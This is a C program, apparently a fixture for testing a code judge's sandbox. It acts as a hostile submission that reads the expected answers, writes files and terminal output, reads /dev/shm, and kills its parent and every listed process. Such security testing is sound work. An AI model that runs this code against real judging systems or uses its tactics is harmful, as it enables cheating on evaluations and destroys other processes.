/*
 * A solution that attacks what the judge runs it with (the tree's path on its
 * input): reads the expected answers, writes into the tree and on the
 * judge's terminal, reads the shared memory in /dev/shm, and kills its
 * parent and every process /proc lists (tkill, which the filter allows).
 * Prints what worked, and "ok" at the end.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static void
try_open(const char *tree, const char *file, int flags, const char *what)
{
	char path[4200];
	int fd;

	snprintf(path, sizeof path, "%s/%s", tree, file);
	fd = open(path, flags, 0644);
	if (fd >= 0) {
		printf("%s %s\n", what, path);
		if (flags & O_WRONLY)
			dprintf(fd, "%s by a solution\n", what);
		close(fd);
	}
}

/* try_open() on every entry of dir (the terminals of /dev/pts, the files of /dev/shm). */
static void
try_entries(const char *dir, int flags, const char *what)
{
	DIR *d = opendir(dir);
	struct dirent *de;

	while (d && (de = readdir(d)))
		if (de->d_name[0] != '.' && strcmp(de->d_name, "ptmx"))
			try_open(dir, de->d_name, flags, what);
	if (d)
		closedir(d);
}

int
main(void)
{
	char tree[4096];
	long self = syscall(SYS_gettid);
	DIR *proc;
	struct dirent *de;

	if (scanf("%4095s", tree) != 1)
		return 1;
	try_open(tree, "testdata/spy/cases.yaml", O_RDONLY, "read");
	try_open(tree, "testdata/spy/pwned", O_WRONLY | O_CREAT, "wrote");
	try_entries("/dev/pts", O_WRONLY | O_NOCTTY, "wrote on");
	try_entries("/dev/shm", O_RDONLY, "read");
	fflush(stdout);
	syscall(SYS_tkill, getppid(), SIGKILL);
	proc = opendir("/proc");
	while (proc && (de = readdir(proc))) {
		long pid = strtol(de->d_name, NULL, 10);

		if (pid > 0 && pid != self)
			syscall(SYS_tkill, pid, SIGKILL);
	}
	printf("ok\n");
	return 0;
}
